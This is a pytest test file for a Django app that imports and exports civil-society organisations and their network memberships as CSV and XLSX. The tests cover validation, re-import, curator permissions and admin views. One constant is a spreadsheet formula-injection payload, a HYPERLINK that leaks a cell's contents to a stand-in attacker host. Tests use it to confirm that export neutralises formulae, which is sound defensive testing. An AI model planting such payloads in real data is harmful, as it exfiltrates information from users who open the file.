"""Spreadsheet import and export of organisations and memberships."""

import csv
import io
from pathlib import Path

import openpyxl
import pytest
from django.core.management import call_command
from django.core.management.base import CommandError
from django.core.validators import MinValueValidator
from django.utils import translation

from members.models import Membership, Organisation
from members.resources import MembershipResource, OrganisationResource, read_dataset
from network.core.text import normalize
from tests.factories import OrganisationFactory

DATA = Path(__file__).parent / "data"
HEADERS = ["name_ar", "name_en", "acronym", "kind", "country", "governorate", "city", "website",
           "founded", "women_led", "networks", "tracks", "description_ar", "description_en"]
FORMULA = '=HYPERLINK("https://evil.example/?leak="&A1,"Click")'


def csv_file(rows, headers=HEADERS, bom=True):
    stream = io.StringIO()
    writer = csv.writer(stream)
    writer.writerow(headers)
    writer.writerows(rows)
    return ("\ufeff" if bom else "").encode() + stream.getvalue().encode()


def row(**values):
    """A full CSV row: an Iraqi NGO in ICSSI unless told otherwise."""
    defaults = {"name_ar": "منظمة التجربة", "name_en": "Test Organisation", "kind": "ngo",
                "country": "IQ", "networks": "icssi"}
    return [{**defaults, **values}.get(header, "") for header in HEADERS]


def xlsx_file(rows, headers=HEADERS):
    book = openpyxl.Workbook()
    book.active.append(headers)
    for values in rows:
        book.active.append(values)
    stream = io.BytesIO()
    book.save(stream)
    return stream.getvalue()


def run_import(content, name="organisations.csv", resource=OrganisationResource,
               dry_run=False, **kwargs):
    kwargs.setdefault("all_networks", "user" not in kwargs)
    return resource(**kwargs).import_data(read_dataset(content, name), dry_run=dry_run)


def outcomes(result):
    return [(outcome.number, outcome.kind) for outcome in result.outcomes()]


# --- Importing files ------------------------------------------------------------------

def test_csv_with_bom_imports_every_row(networks):
    result = run_import((DATA / "organisations.csv").read_bytes())

    assert result.file_errors() == []
    assert outcomes(result) == [(2, "new"), (3, "new"), (4, "new")]
    amal = Organisation.objects.get(name_en="Iraqi Al-Amal Association")
    assert (amal.slug, amal.kind, amal.country.code, amal.governorate, amal.city_ar,
            amal.founded_year, amal.women_led) == (
        "iraqi-al-amal-association", "ngo", "IQ", "IQ-BG", "بغداد", 1992, True)
    assert sorted(amal.memberships.values_list("network__slug", flat=True)) == ["icssi", "wasl"]
    assert sorted(amal.tracks.values_list("slug", flat=True)) == ["democracy", "womens-rights"]
    assert amal.description_ar.startswith("تعمل الجمعية")


def test_names_in_either_language_and_the_arabic_semicolon(networks):
    run_import((DATA / "organisations.csv").read_bytes())

    centre = Organisation.objects.get(name_en="Development Studies Centre")
    assert (centre.kind, centre.country.code, centre.website, centre.women_led) == (
        "research", "JO", "https://www.example.jo", False)
    assert sorted(centre.memberships.values_list("network__slug", flat=True)) == [
        "icssi", "wasl"]
    assert sorted(centre.tracks.values_list("slug", flat=True)) == [
        "democracy", "human-security"]
    union = Organisation.objects.get(name_ar="منظمة نساء من أجل السلام")
    assert (union.kind, union.governorate) == ("union", "IQ-BA")


def test_an_organisation_without_english_name_gets_a_stable_ascii_slug(networks):
    run_import((DATA / "organisations.csv").read_bytes())
    slug = Organisation.objects.get(name_ar="منظمة نساء من أجل السلام").slug
    Organisation.objects.all().delete()

    run_import((DATA / "organisations.csv").read_bytes())

    assert slug.startswith("org-") and slug.isascii()
    assert Organisation.objects.get(name_ar="منظمة نساء من أجل السلام").slug == slug


def test_a_taken_slug_gets_a_number(networks):
    OrganisationFactory(slug="test-organisation", name_ar="أخرى", name_en="Another")

    run_import(csv_file([row()]))

    assert Organisation.objects.get(name_en="Test Organisation").slug == "test-organisation-2"


@pytest.mark.parametrize("bom", [True, False])
def test_csv_with_or_without_bom(networks, bom):
    result = run_import(csv_file([row()], bom=bom))

    assert outcomes(result) == [(2, "new")]
    assert Organisation.objects.get().name_ar == "منظمة التجربة"


def test_xlsx_imports_native_cells(networks):
    content = xlsx_file([
        ["منظمة الرافدين", "Rafidain Organisation", None, "Social enterprise", "Iraq", "Erbil",
         "أربيل", None, 2001, True, "ICSSI", "democracy", "وصف", None],
        [None] * len(HEADERS),
        ["منظمة دجلة", None, None, "تعاونية", "IQ", None, None, None, 1999.0, "لا", "icssi",
         None, None, None],
    ])

    result = run_import(content, name="organisations.xlsx")

    assert outcomes(result) == [(2, "new"), (3, "skip"), (4, "new")]
    rafidain = Organisation.objects.get(name_en="Rafidain Organisation")
    assert (rafidain.kind, rafidain.governorate, rafidain.founded_year, rafidain.women_led) == (
        "social-enterprise", "IQ-AR", 2001, True)
    tigris = Organisation.objects.get(name_ar="منظمة دجلة")
    assert (tigris.kind, tigris.founded_year, tigris.women_led) == ("cooperative", 1999, False)


def test_xlsx_is_recognised_by_its_content(networks):
    result = run_import(xlsx_file([row()]), name="upload")

    assert outcomes(result) == [(2, "new")]


def test_blank_cells_mean_no_value(networks):
    result = run_import(csv_file([["منظمة فارغة", "", "", "", "IQ", "", "", "", "", "", "icssi",
                                   "", "", ""]]))

    assert outcomes(result) == [(2, "new")]
    org = Organisation.objects.get()
    assert (org.name_en, org.kind, org.governorate, org.founded_year, org.women_led,
            org.website, list(org.tracks.all())) == ("", "ngo", "", None, False, "", [])


def test_blank_cells_clear_an_existing_organisation_but_keep_its_kind(networks):
    org = OrganisationFactory(name_en="Test Organisation", kind="union", women_led=True,
                              founded_year=2000, networks=[networks["icssi"]])

    run_import(csv_file([row(kind="", founded="", women_led="")]))

    org.refresh_from_db()
    assert (org.kind, org.founded_year, org.women_led) == ("union", None, False)


def test_column_order_is_free_and_optional_columns_are_accepted(networks):
    content = csv_file([["published", "Public", "wasl", "NG", "Abuja Women", "Abuja",
                         "أبوجا", "x@example.org"]],
                       headers=["status", "visibility", "networks", "country", "name_en",
                                "city_en", "city", "email"])

    run_import(content)

    org = Organisation.objects.get()
    assert (org.status, org.visibility, org.city_en, org.city_ar, org.email) == (
        "published", "public", "Abuja", "أبوجا", "x@example.org")


def test_new_organisations_stay_staff_only_and_drafts(networks):
    run_import(csv_file([row()]))

    org = Organisation.objects.get()
    assert (org.status, org.visibility, org.email_visibility, org.phone_visibility,
            org.address_visibility, org.social_visibility) == ("draft", *["staff"] * 5)


def test_contact_details_change_only_when_their_column_is_given(networks):
    org = OrganisationFactory(name_en="Test Organisation", email="keep@example.org",
                              networks=[networks["icssi"]])

    run_import(csv_file([row(description_en="Changed.")]))

    org.refresh_from_db()
    assert (org.email, org.description_en) == ("keep@example.org", "Changed.")


def test_imported_organisations_are_found_by_search(networks):
    run_import((DATA / "organisations.csv").read_bytes())

    found = Organisation.objects.filter(search_text__contains=normalize("المشاركه المدنيه"))
    assert list(found.values_list("name_en", flat=True)) == ["Iraqi Al-Amal Association"]
    assert Organisation.objects.filter(
        search_names__contains=normalize("نساء من اجل السلام")).count() == 1


# --- Errors: all or nothing -------------------------------------------------------------

def test_a_file_with_bad_rows_imports_nothing_and_names_the_rows(networks):
    content = csv_file([
        row(name_en="Good One", name_ar="جيدة"),
        row(name_en="Nowhere", name_ar="لا مكان", country="Narnia"),
        ["", "", "", "", "", "", "", "", "", "", "", "", "", ""],
        row(name_en="Bad Year", name_ar="سنة خاطئة", founded="19x9"),
    ])

    with translation.override("en"):
        result = run_import(content)
        found = {outcome.number: outcome.errors for outcome in result.outcomes()}

    assert not result.is_valid()
    assert Organisation.objects.count() == 0
    assert Membership.objects.count() == 0
    assert outcomes(result) == [(2, "new"), (3, "error"), (4, "skip"), (5, "error")]
    assert found[3] == ["country: Unknown country \u201cNarnia\u201d."]
    assert found[5] == ["founded: \u201c19x9\u201d is not a year."]


@pytest.mark.parametrize("values,expected", [
    ({"kind": "bakery"}, "kind: Unknown kind \u201cbakery\u201d."),
    ({"networks": "icssi;Nonexistent"}, "networks: Unknown network \u201cNonexistent\u201d."),
    ({"tracks": "democracy;knitting"}, "tracks: Unknown track \u201cknitting\u201d."),
    ({"governorate": "IQ-ZZ"}, "governorate: Unknown governorate \u201cIQ-ZZ\u201d."),
    ({"women_led": "maybe"}, "women_led: \u201cmaybe\u201d is not yes or no."),
    ({"founded": "1700"},
     "founded: Ensure this value is greater than or equal to 1800."),
    ({"country": "NO", "governorate": "IQ-BG"},
     "governorate: A governorate can only be given for Iraq."),
    ({"website": "not a url"}, "website: Enter a valid URL."),
    ({"name_ar": "", "name_en": ""}, "name_ar: Give the name in Arabic, in English or in both."),
])
def test_row_errors_name_the_column_and_the_value(networks, values, expected):
    with translation.override("en"):
        result = run_import(csv_file([row(**values)]))
        errors = result.outcomes()[0].errors

    assert errors == [expected]
    assert Organisation.objects.count() == 0


def test_errors_are_in_the_active_language(networks):
    with translation.override("ar"):
        result = run_import(csv_file([row(founded="1700")]))
        errors = result.outcomes()[0].errors
        message = str(MinValueValidator.message) % {"limit_value": 1800}

    assert message.startswith("تحقق")
    assert errors == [f"founded: {message}"]


@pytest.mark.parametrize("content,message", [
    (csv_file([["x", "IQ"]], headers=["acronym", "country"]),
     "The file needs a name_ar or a name_en column."),
    (csv_file([row()], headers=[*HEADERS[:-1], "colour"]),
     "Unknown column: colour."),
    (csv_file([], headers=HEADERS), "The file has a header row but no rows to import."),
])
def test_file_errors(networks, content, message):
    with translation.override("en"):
        result = run_import(content)

    assert message in " ".join(result.file_errors())
    assert Organisation.objects.count() == 0


def test_dry_run_changes_nothing(networks):
    result = run_import((DATA / "organisations.csv").read_bytes(), dry_run=True)

    assert outcomes(result) == [(2, "new"), (3, "new"), (4, "new")]
    assert Organisation.objects.count() == 0
    assert Membership.objects.count() == 0


# --- Re-importing ---------------------------------------------------------------------

def test_reimport_updates_without_duplicates(networks):
    original = (DATA / "organisations.csv").read_bytes()
    run_import(original)
    changed = original.replace("مركز أبحاث مستقل.".encode(), "مركز أبحاث مستقل منذ 2010.".encode())

    result = run_import(changed)

    assert outcomes(result) == [(2, "skip"), (3, "skip"), (4, "update")]
    assert Organisation.objects.count() == 3
    assert Membership.objects.count() == 5
    assert Organisation.objects.get(name_en="Development Studies Centre").description_ar == (
        "مركز أبحاث مستقل منذ 2010.")


def test_reimport_matches_names_tolerantly(networks):
    org = OrganisationFactory(name_ar="جمعيّة الأمل العراقيّة", name_en="",
                              networks=[networks["icssi"]])

    run_import(csv_file([row(name_ar="جمعية الامل العراقيه", name_en="Iraqi Hope Society")]))

    assert list(Organisation.objects.all()) == [org]
    org.refresh_from_db()
    assert org.name_en == "Iraqi Hope Society"


def test_reimport_by_slug(networks):
    org = OrganisationFactory(slug="hope", name_en="Old Name", networks=[networks["icssi"]])

    run_import(csv_file([["hope", "اسم جديد", "New Name", "IQ"]],
                        headers=["slug", "name_ar", "name_en", "country"]))

    org.refresh_from_db()
    assert (Organisation.objects.count(), org.name_ar, org.name_en) == (1, "اسم جديد", "New Name")


def test_reimport_keeps_memberships_of_other_networks(networks):
    org = OrganisationFactory(name_en="Test Organisation", networks=[networks["icssi"]])
    Membership.objects.filter(organisation=org).update(role="founding")

    run_import(csv_file([row(networks="wasl")]))

    assert sorted(org.memberships.values_list("network__slug", "role")) == [
        ("icssi", "founding"), ("wasl", "member")]


# --- Scope --------------------------------------------------------------------------

def test_a_curator_cannot_add_organisations_to_another_network(networks, make_staff):
    curator = make_staff("network curator", networks=[networks["wasl"]])
    content = csv_file([row(name_en="Fine", name_ar="حسنة", networks="wasl"),
                        row(networks="wasl;ICSSI")])

    with translation.override("en"):
        result = run_import(content, user=curator)
        errors = result.outcomes()[1].errors

    assert errors == ["networks: You may not add organisations to "
                      "Iraqi Civil Society Solidarity Initiative."]
    assert Organisation.objects.count() == 0


def test_a_curator_cannot_change_an_organisation_outside_her_networks(networks, make_staff):
    curator = make_staff("network curator", networks=[networks["wasl"]])
    org = OrganisationFactory(name_en="Test Organisation", description_en="Before.",
                              networks=[networks["icssi"]])

    with translation.override("en"):
        result = run_import(csv_file([row(networks="wasl", description_en="After.")]),
                            user=curator)
        errors = result.outcomes()[0].errors

    assert errors == ["No organisation you may change has this name."]
    org.refresh_from_db()
    assert org.description_en == "Before."
    assert list(org.memberships.values_list("network__slug", flat=True)) == ["icssi"]


def test_a_curator_must_name_one_of_her_networks(networks, make_staff):
    curator = make_staff("network curator", networks=[networks["wasl"]])

    result = run_import(csv_file([row(networks="")]), user=curator)

    assert outcomes(result) == [(2, "error")]


def test_the_chosen_network_joins_every_row(networks, make_staff):
    curator = make_staff("network curator", networks=[networks["wasl"]])

    result = run_import(csv_file([row(networks="", tracks="peace")]), user=curator,
                        network=networks["wasl"])

    assert outcomes(result) == [(2, "new")]
    org = Organisation.objects.get()
    assert list(org.memberships.values_list("network__slug", flat=True)) == ["wasl"]


def test_a_curator_cannot_add_tracks_of_another_network(networks, make_staff):
    curator = make_staff("network curator", networks=[networks["wasl"]])

    with translation.override("en"):
        result = run_import(csv_file([row(networks="wasl", tracks="peace;democracy")]),
                            user=curator)
        errors = result.outcomes()[0].errors

    assert errors == ["tracks: You may not use the track Democracy."]


def test_a_curator_keeps_the_tracks_she_cannot_reach(networks, make_staff):
    curator = make_staff("network curator", networks=[networks["wasl"]])
    org = OrganisationFactory(name_en="Test Organisation",
                              networks=[networks["wasl"], networks["icssi"]],
                              tracks=networks["icssi"].tracks.filter(slug="democracy"))

    result = run_import(csv_file([row(networks="wasl", tracks="peace;Human security")]),
                        user=curator)

    assert outcomes(result) == [(2, "update")]
    assert sorted(org.tracks.values_list("slug", flat=True)) == [
        "democracy", "human-security", "peace"]


def test_nobody_without_networks_imports_anything(networks, make_staff):
    librarian = make_staff("librarian")

    result = run_import(csv_file([row()]), user=librarian)

    assert outcomes(result) == [(2, "error")]
    assert Organisation.objects.count() == 0


# --- Memberships --------------------------------------------------------------------

def test_memberships_import_and_reimport(networks):
    org = OrganisationFactory(slug="hope", name_ar="جمعية الأمل", networks=[networks["icssi"]])
    headers = ["organisation", "network", "role", "since", "until"]
    content = csv_file([["جمعية الامل", "Women's Alliance for Security Leadership",
                         "عضو مؤسس", "2015", ""],
                        ["hope", "ICSSI", "steering", "2004", "2020"]], headers=headers)

    result = run_import(content, resource=MembershipResource)
    again = run_import(content, resource=MembershipResource)

    assert outcomes(result) == [(2, "new"), (3, "update")]
    assert outcomes(again) == [(2, "skip"), (3, "skip")]
    assert sorted(org.memberships.values_list("network__slug", "role", "since", "until")) == [
        ("icssi", "steering", 2004, 2020), ("wasl", "founding", 2015, None)]


def test_membership_errors_import_nothing(networks, make_staff):
    curator = make_staff("network curator", networks=[networks["wasl"]])
    OrganisationFactory(slug="hope", networks=[networks["wasl"]])
    headers = ["organisation", "network", "role", "since", "until"]
    content = csv_file([["hope", "wasl", "partner", "2010", ""],
                        ["hope", "icssi", "member", "", ""],
                        ["nobody", "wasl", "member", "", ""],
                        ["hope", "wasl", "member", "2010", "2001"]], headers=headers)

    with translation.override("en"):
        result = run_import(content, resource=MembershipResource, user=curator)
        found = {outcome.number: outcome.errors for outcome in result.outcomes()}

    assert found == {
        2: [],
        3: ["network: You may not add organisations to "
            "Iraqi Civil Society Solidarity Initiative."],
        4: ["organisation: Unknown organisation \u201cnobody\u201d."],
        5: ["until: A membership cannot end before it starts."],
    }
    assert Membership.objects.get().role == "member"


# --- The command --------------------------------------------------------------------

def command(*args):
    out = io.StringIO()
    with translation.override("en"):
        call_command("import_members", *map(str, args), stdout=out)
    return out.getvalue()


def command_error(*args):
    out = io.StringIO()
    with translation.override("en"), pytest.raises(CommandError) as raised:
        call_command("import_members", *map(str, args), stdout=out)
    return out.getvalue(), raised.value


def test_command_imports_and_prints_each_row(networks):
    out = command(DATA / "organisations.csv")

    assert "Row 2: new \u2014 جمعية الأمل العراقية" in out
    assert "Row 4: new \u2014 مركز دراسات التنمية" in out
    assert "Imported. New: 3, updated: 0, unchanged or blank: 0." in out
    assert Organisation.objects.count() == 3


def test_command_dry_run_saves_nothing(networks):
    out = command(DATA / "organisations.csv", "--dry-run")

    assert "Row 3: new" in out
    assert "Dry run, nothing was saved. New: 3, to update: 0" in out
    assert Organisation.objects.count() == 0


def test_command_fails_on_a_bad_row_and_imports_nothing(networks, tmp_path):
    file = tmp_path / "bad.csv"
    file.write_bytes(csv_file([row(name_en="Fine", name_ar="حسنة"),
                               row(country="Atlantis")]))

    out, error = command_error(file)

    assert error.returncode == 1
    assert str(error) == "1 row has errors: nothing was imported."
    assert "Row 3: country: Unknown country \u201cAtlantis\u201d." in out
    assert Organisation.objects.count() == 0


def test_command_network_option(networks, tmp_path):
    file = tmp_path / "orgs.xlsx"
    file.write_bytes(xlsx_file([row(networks="")]))

    command(file, "--network", "wasl")

    assert list(Organisation.objects.get().memberships.values_list(
        "network__slug", flat=True)) == ["wasl"]


def test_command_memberships(networks, tmp_path):
    OrganisationFactory(slug="hope", networks=[networks["icssi"]])
    file = tmp_path / "memberships.csv"
    file.write_bytes(csv_file([["hope", "partner"]], headers=["organisation", "role"]))

    command(file, "--memberships", "--network", "wasl")

    assert Membership.objects.get(network__slug="wasl").role == "partner"


@pytest.mark.parametrize("content,message", [
    ("منظمة,IQ\n".encode("cp1256"), "not UTF-8"),
    (b"", "empty"),
    (b"\xef\xbb\xbf\r\n", "empty"),
    (csv_file([["x", "IQ"]], headers=["acronym", "country"]), "name_ar or a name_en column"),
])
def test_command_refuses_unreadable_files(networks, tmp_path, content, message):
    file = tmp_path / "orgs.csv"
    file.write_bytes(content)

    _out, error = command_error(file)

    assert message in str(error)


def test_command_refuses_a_damaged_workbook_and_unknown_networks(networks, tmp_path):
    file = tmp_path / "orgs.xlsx"
    file.write_bytes(b"PK\x03\x04 not really a workbook")

    assert "not a readable XLSX" in str(command_error(file)[1])
    assert "no network with the slug nope" in str(
        command_error(DATA / "organisations.csv", "--network", "nope")[1])


# --- The admin ----------------------------------------------------------------------

IMPORT_URL = "/admin/members/organisation/import/"
PROCESS_URL = "/admin/members/organisation/process_import/"
EXPORT_URL = "/admin/members/organisation/export/"


def upload(client, content, network, name="organisations.csv", file_format="0"):
    upload = io.BytesIO(content)
    upload.name = name
    return client.post(IMPORT_URL, {"resource": "0", "network": network.pk,
                                     "import_file": upload, "format": file_format},
                       headers={"accept-language": "en"})


def test_admin_import_preview_then_confirm(networks, make_staff, admin_login):
    client = admin_login(make_staff("superuser"))

    preview = upload(client, (DATA / "organisations.csv").read_bytes(), networks["wasl"])

    assert preview.status_code == 200
    assert Organisation.objects.count() == 0
    confirm = preview.context["confirm_form"]
    assert [(o.number, o.kind) for o in preview.context["result"].outcomes()] == [
        (2, "new"), (3, "new"), (4, "new")]
    response = client.post(PROCESS_URL, {**confirm.initial, "confirm": "1"})

    assert response.status_code == 302
    assert Organisation.objects.count() == 3
    assert Membership.objects.filter(network=networks["wasl"]).count() == 3


def test_admin_import_xlsx(networks, make_staff, admin_login):
    client = admin_login(make_staff("superuser"))

    preview = upload(client, xlsx_file([row()]), networks["icssi"], name="orgs.xlsx",
                     file_format="1")
    client.post(PROCESS_URL, {**preview.context["confirm_form"].initial, "confirm": "1"})

    assert Organisation.objects.get().name_en == "Test Organisation"


def test_admin_import_with_errors_offers_no_confirmation(networks, make_staff, admin_login):
    curator = make_staff("network curator", networks=[networks["wasl"]])
    client = admin_login(curator)

    response = upload(client, csv_file([row(networks="icssi")]), networks["wasl"])

    assert response.status_code == 200
    assert "confirm_form" not in response.context
    html = response.content.decode()
    assert "You may not add organisations to" in html
    assert Organisation.objects.count() == 0


def test_admin_import_offers_only_the_curators_networks(networks, make_staff, admin_login):
    client = admin_login(make_staff("network curator", networks=[networks["wasl"]]))

    form = client.get(IMPORT_URL).context["form"]
    response = upload(client, csv_file([row()]), networks["icssi"])

    assert list(form.fields["network"].queryset) == [networks["wasl"]]
    # Her only network is fixed: another one posted is ignored, and the row naming it
    # is refused.
    assert response.context["form"].cleaned_data["network"] == networks["wasl"]
    assert "confirm_form" not in response.context
    assert "You may not add organisations to" in response.content.decode()
    assert Organisation.objects.count() == 0


def test_admin_import_and_export_refuse_the_librarian(networks, make_staff, admin_login):
    client = admin_login(make_staff("librarian"))

    assert client.get(IMPORT_URL).status_code == 403
    assert client.post(EXPORT_URL, {"format": "0", "resource": "0"}).status_code == 403


def export(client, file_format):
    response = client.post(EXPORT_URL, {"format": file_format, "resource": "0"})
    assert response.status_code == 200
    return response.content


def test_export_reimports_cleanly(networks, make_staff, admin_login):
    client = admin_login(make_staff("superuser"))
    run_import((DATA / "organisations.csv").read_bytes())

    content = export(client, "0")
    result = run_import(content)

    assert content.startswith(b"\xef\xbb\xbf")
    assert outcomes(result) == [(2, "skip"), (3, "skip"), (4, "skip")]


def test_export_lists_only_the_curators_organisations(networks, make_staff, admin_login):
    client = admin_login(make_staff("network curator", networks=[networks["wasl"]]))
    OrganisationFactory(slug="ours", networks=[networks["wasl"], networks["icssi"]],
                        email="ours@example.org")
    OrganisationFactory(slug="theirs", networks=[networks["icssi"]])

    rows = list(csv.DictReader(io.StringIO(export(client, "0").decode("utf-8-sig"))))

    assert [(r["slug"], r["networks"], r["email"]) for r in rows] == [
        ("ours", "wasl;icssi", "ours@example.org")]


def test_export_neutralises_formulae_in_csv(networks, make_staff, admin_login):
    client = admin_login(make_staff("superuser"))
    OrganisationFactory(slug="evil", name_en=FORMULA, acronym="+1", city_en="-2",
                        phone="@SUM(A1)", networks=[networks["wasl"]])

    content = export(client, "0")
    [exported] = csv.DictReader(io.StringIO(content.decode("utf-8-sig")))
    Organisation.objects.filter(slug="evil").update(name_en="Renamed")
    run_import(content)

    assert (exported["name_en"], exported["acronym"], exported["city_en"],
            exported["phone"]) == ("'" + FORMULA, "'+1", "'-2", "'@SUM(A1)")
    assert Organisation.objects.get(slug="evil").name_en == FORMULA


def test_export_neutralises_formulae_in_xlsx(networks, make_staff, admin_login):
    client = admin_login(make_staff("superuser"))
    OrganisationFactory(slug="evil", name_en=FORMULA, acronym="+1", founded_year=1990,
                        networks=[networks["wasl"]])

    sheet = openpyxl.load_workbook(io.BytesIO(export(client, "1"))).active
    cells = {header.value: cell for header, cell in zip(sheet[1], sheet[2], strict=True)}

    assert all(cell.data_type != "f" for row in sheet.iter_rows() for cell in row)
    assert (cells["name_en"].value, cells["name_en"].data_type,
            cells["name_en"].quotePrefix) == (FORMULA, "s", True)
    assert (cells["acronym"].value, cells["founded"].value, cells["governorate"].value) == (
        "+1", 1990, None)


def test_membership_admin_export(networks, make_staff, admin_login):
    client = admin_login(make_staff("superuser"))
    OrganisationFactory(slug="hope", networks=[networks["wasl"]])

    response = client.post("/admin/members/membership/export/",
                           {"format": "0", "resource": "0"})

    assert response.content.decode("utf-8-sig").splitlines() == [
        "organisation,network,role,since,until", "hope,wasl,member,,"]


def test_admin_confirm_imports_nothing_when_rows_became_invalid(networks, make_staff,
                                                                admin_login):
    client = admin_login(make_staff("superuser"))
    preview = upload(client, csv_file([row(name_en="Fine", name_ar="حسنة"), row()]),
                     networks["icssi"])
    # Since the preview, the row's two names have come to match two organisations.
    OrganisationFactory(name_ar="منظمة التجربة", name_en="One")
    OrganisationFactory(name_ar="أخرى", name_en="Test Organisation")

    response = client.post(PROCESS_URL, {**preview.context["confirm_form"].initial,
                                         "confirm": "1"})

    assert response.status_code == 302
    assert response["Location"] == IMPORT_URL
    assert not Organisation.objects.filter(name_en="Fine").exists()
